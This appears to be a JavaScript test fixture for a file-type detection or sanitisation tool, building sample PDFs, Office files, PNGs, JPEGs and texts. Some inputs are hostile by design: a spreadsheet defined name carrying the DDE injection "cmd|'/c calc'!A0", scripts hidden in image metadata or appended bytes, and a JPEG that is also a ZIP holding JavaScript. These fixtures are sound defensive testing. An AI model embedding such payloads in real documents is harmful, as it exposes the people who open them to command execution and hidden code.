  'a PDF that opens at its last page': ['a.pdf', () => opening('<< /S /Named /N /LastPage >>'), 'pdf'],
  'a PDF with a button that prints': ['a.pdf', () => linkOf('<< /S /Named /N /Print >>'), 'pdf'],
  'a PDF with another name': ['offer.docx', () => pdf(), 'pdf'],
  'a text document': ['a.docx', () => office('docx'), 'docx'],
  'a text document with a link': [
    'a.docx',
    () => word({ more: documentRelations(['hyperlink', 'https://x/', true]) }),
    'docx',
  ],
  'a text document with a link to another': [
    'a.docx',
    () => word({ more: documentRelations(['hyperlink', 'docs\\Report%202.docx', true]) }),
    'docx',
  ],
  'a text document with fields': [
    'a.docx',
    () =>
      word({
        content: `<w:document xmlns:w="w">${[
          ' HYPERLINK "https://link.hospital.example/import" ',
          'PAGE',
          ' HYPERLINK "https://x" ',
          ' REF a \\h ',
        ]
          .map((field) => fieldOf(field).replace(/<\/?w:document[^>]*>/g, ''))
          .join('<w:p/>')}</w:document>`,
      }),
    'docx',
  ],
  'a text document with fields in what programs choose from': [
    'a.docx',
    () =>
      word({
        content: fields(
          `${runs('TOC \\o ')}<w:r><w:rPr><w14:ligatures/></w:rPr><w:instrText>"1-3"</w:instrText></w:r><w:fldChar/>${chosen(
            `<w:fldChar/>${runs('PA', 'GE')}<w:fldChar/>`,
            `<w:fldChar/>${runs('PAGE')}<w:fldChar/>`,
          )}`,
        ),
      }),
    'docx',
  ],
  'slides with a document with links': [
    'a.pptx',
    () =>
      office('pptx', {
        more: {
          'ppt/embeddings/a.docx': word({ more: documentRelations(['hyperlink', 'https://x/', true]) }),
        },
      }),
    'pptx',
  ],
  slides: ['a.pptx', () => office('pptx'), 'pptx'],
  'slides with a table': [
    'a.pptx',
    () => office('pptx', { more: { 'ppt/embeddings/a.xlsx': office('xlsx', { content: '<workbook/>' }) } }),
    'pptx',
  ],
  'slides with a table with formulas': [
    'a.pptx',
    () => office('pptx', { more: { 'ppt/embeddings/a.xlsx': formula("SUM('a b'!A1:A3)") } }),
    'pptx',
  ],
  'a workbook': ['a.xlsx', () => formula('IF(A1="a|b!",1,2)'), 'xlsx'],
  'a workbook whose type is spelled in another way': [
    'a.xlsx',
    () =>
      office('xlsx', {
        main: 'application/vnd.openxmlformats-officedocument.SpreadsheetML.Sheet.main+xml',
        content: '<workbook/>',
      }),
    'xlsx',
  ],
  'a workbook with names, areas, lists, colours and totals': [
    'a.xlsx',
    () =>
      sheet(
        `<worksheet><c><f>SUM(Prices[[#All],[Yes|No]:['#|'"]])*'It''s "new"'!A1&amp;HYPERLINK("https://x/","RTD(1)")</f></c>
        <c><f>HYPERLINK("#'2025|2026'!A1","a")&amp;HYPERLINK("[a.xlsx]B!A1:B2")&amp;HYPERLINK("docs\\a.pdf")&amp;HYPERLINK(A1)</f></c>
        <c><f>CALLS+REGISTER&amp;IMAGES(1)&amp;"_x007C_!"</f></c>
        <c><f>'2025|2026'!A1+SUM('A|B:C|D'!A1)+IMAGE</f></c>
        <dataValidation><formula1>"Yes|No!,No"</formula1></dataValidation>
        <dataValidation><formula1>Lists!$A$1:$A$9</formula1><formula2>TODAY()</formula2></dataValidation>
        <cfRule><formula>AND(A1&lt;&gt;"",ISERROR(_xlfn.XLOOKUP(A1,B:B,C:C)))</formula></cfRule>
        <cfvo type="num" val="3"/><hyperlink ref="A1" location="'2025|2026'!A1"/></worksheet>`,
        `<sheets><sheet name="2025|2026"/><sheet name="a|b"/><sheet name="C|D"/></sheets>
        <definedName name="_xlnm.Print_Area">'2025|2026'!$A$1:$F$40,Lists!$1:$2</definedName>
        <definedName name="Rate">#REF!</definedName><definedName name="Text">"cmd|'/c calc'!A0"</definedName>`,
        {
          'tables/table1.xml': [
            'spreadsheetml.table',
            '<table><calculatedColumnFormula>Prices[[#This Row],[Unit]]*2</calculatedColumnFormula><totalsRowFormula>SUBTOTAL(109,[a|b])</totalsRowFormula></table>',
          ],
          'charts/chart1.xml': ['drawingml.chart', "<c:chart><c:f>'2025|2026'!$A$1:$A$4</c:f></c:chart>"],
        },
      ),
    'xlsx',
  ],
  'a picture': ['a.png', () => png(), 'png'],
  'a picture with a script in its texts': [
    'a.png',
    () => png([['tEXt', text('Comment\0<script>SECRET</script>')]]),
    'png',
    'SECRET',
  ],
  'a picture with its place': ['a.png', () => png([['eXIf', exif()]]), 'png', 'SECRET-PLACE'],
  'a picture with a page behind its end': [
    'a.png',
    () => Buffer.concat([png(), text('<script>SECRET</script>')]),
    'png',
    'SECRET',
  ],
  'a JPEG': ['a.jpg', () => jpeg(), 'jpeg'],
  'a JPEG with its place': ['a.jpeg', () => jpeg([exifSegment()]), 'jpeg', 'SECRET-PLACE'],
  'a JPEG with scripts in its EXIF data': [
    'a.jpg',
    () => jpeg([exifSegment(exif(1, '<script>SECRET</script>'))]),
    'jpeg',
    'SECRET',
  ],
  'a JPEG with a comment and what other programs add': [
    'a.jpg',
    () =>
      jpeg([
        [0xfe, text('SECRET')],
        [0xed, text('Photoshop SECRET')],
        [0xe1, text('http://ns.adobe.com/xap/1.0/ SECRET')],
      ]),
    'jpeg',
    'SECRET',
  ],
  'a JPEG that is a ZIP, too': [
    'a.jpg',
    () => jpeg([], { behind: zip({ 'a.js': 'SECRET' }) }),
    'jpeg',
    'SECRET',
  ],
  'a JPEG with another name': ['a.png', () => jpeg(), 'jpeg'],
  'a text': ['a.txt', () => text('The device is used twice a week.\r\n'), 'txt'],
  'a text of an old program': ['a.TXT', () => Buffer.from([0x4d, 0xfc, 0x6c, 0x6c, 0x65, 0x72]), 'txt'],
};
